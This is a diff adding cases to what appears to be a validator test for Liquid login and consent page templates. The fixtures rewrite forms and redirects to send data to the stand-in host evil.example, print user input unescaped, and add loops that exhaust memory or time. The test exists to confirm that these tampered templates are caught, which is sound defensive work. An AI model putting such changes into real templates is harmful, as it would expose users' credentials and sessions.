@@ -85,6 +85,48 @@ const wrong: readonly Case[] = [
       'pages/enrolment.liquid:1:1: has a form POST https://evil.example/, which ours has not',
     ],
   ],
+  [
+    'a button that sends a form elsewhere, and a page that leads there by itself',
+    {
+      ...changed('backup-code', '<button>', '<button formaction="https://evil.example/">'),
+      ...changed('password', '<button>', '<button FORMMETHOD="get">'),
+      ...changed('signed-out', '{% block main %}', '{% block main %}<base href="https://evil.example/">'),
+      ...changed('continue', 'url={{ url }}', 'url=https://evil.example/'),
+    },
+    [
+      'pages/backup-code.liquid:1:1: has a form POST https://evil.example/, which ours has not',
+      'pages/continue.liquid:1:1: has <meta http-equiv="refresh" content="0; url=https://evil.example/">, which ours has not',
+      'pages/password.liquid:1:1: has a form GET {{ action }}, which ours has not',
+      'pages/signed-out.liquid:1:1: has <base href="https://evil.example/">, which ours has not',
+    ],
+  ],
+  [
+    'what others wrote, printed as it is: in a sentence, in an attribute, in one without quotes',
+    {
+      ...changed('consent', 'client: client.name }}', 'client: client.name | raw }}'),
+      ...changed('enrolment', '"{{ typed }}"', '"{{ typed | raw }}"'),
+      ...changed('password', '"{{ identifier }}"', '{{ identifier }}'),
+    },
+    ['consent', 'enrolment', 'password'].map(
+      (name) =>
+        `pages/${name}.liquid:1:1: prints as markup what people or clients wrote: leave out "raw", and put quotes round the values of attributes`,
+    ),
+  ],
+  [
+    'templates that take what there is of memory or time',
+    {
+      ...changed('signed-out', '<h1>', '{% for i in (1..1000000000) %}{% endfor %}<h1>'),
+      ...changed(
+        'logout',
+        '<h1>',
+        '{% assign a = (1..1000) %}{% for i in a %}{% for j in a %}{% for k in a %}{% endfor %}{% endfor %}{% endfor %}<h1>',
+      ),
+    },
+    [
+      'pages/logout.liquid:4:59: not a template that works: template render limit exceeded',
+      'pages/signed-out.liquid:4:1: not a template that works: memory alloc limit exceeded',
+    ],
+  ],
 ]
 
 for (const [title, files, expected] of wrong) {
